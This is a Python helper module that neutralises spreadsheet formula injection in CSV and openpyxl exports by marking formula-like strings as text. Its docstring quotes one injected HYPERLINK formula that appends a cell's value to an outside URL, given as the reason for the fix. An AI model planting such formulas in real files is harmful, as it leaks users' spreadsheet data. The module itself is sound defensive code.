"""Text in exports stays text: no spreadsheet formula from user data (docs/security.md).

Excel (and LibreOffice, WPS) read a cell starting with `=`, `+`, `-` or `@` as a formula
(tab and CR too, after trimming), and openpyxl writes any string starting with `=` as one:
a leader title `=HYPERLINK("http://…?"&A1,"点击")` became a live formula in roster.xlsx.
Every exporter passes its values through one of these helpers:

- `text_value(v)` for plain-text formats (CSV, GeoPackage attributes): such a string gets a
  leading apostrophe, which Excel shows as a text marker;
- `as_text(cell)` / `text_row(ws, values)` for openpyxl cells (normal / write-only
  workbooks): the cell is stored as a string with Excel's quote prefix;
- `workbook_as_text(wb)` before saving a normal workbook: every cell at once.

Only strings change: numbers (negative ones too), dates and booleans keep their type.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import Cell
from openpyxl.workbook import Workbook

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def formula_like(value: Any) -> bool:
    """A string a spreadsheet would read as (the start of) a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_START)


def text_value(value: Any) -> Any:
    """For CSV and other plain-text attribute exports: `'=…` instead of `=…`."""
    return "'" + value if formula_like(value) else value


def as_text(cell: Any) -> Any:
    """An openpyxl cell holding a formula-like string is stored as text (quote prefix)."""
    if formula_like(cell.value):
        cell.data_type = "s"
        cell.quotePrefix = True
    return cell


def text_row(ws: Any, values: Iterable[Any]) -> list[Any]:
    """A row for `ws.append` of a write-only sheet, formula-like strings as text cells."""
    row = []
    for value in values:
        if isinstance(value, Cell):
            row.append(as_text(value))
        elif formula_like(value):
            row.append(as_text(WriteOnlyCell(ws, value=value)))
        else:
            row.append(value)
    return row


def workbook_as_text(wb: Workbook) -> None:
    """Every formula-like string of a (normal) workbook as text; call just before saving.
    A workbook of ours holds no formula of its own in cells (validations and conditional
    formats are not cells)."""
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                as_text(cell)
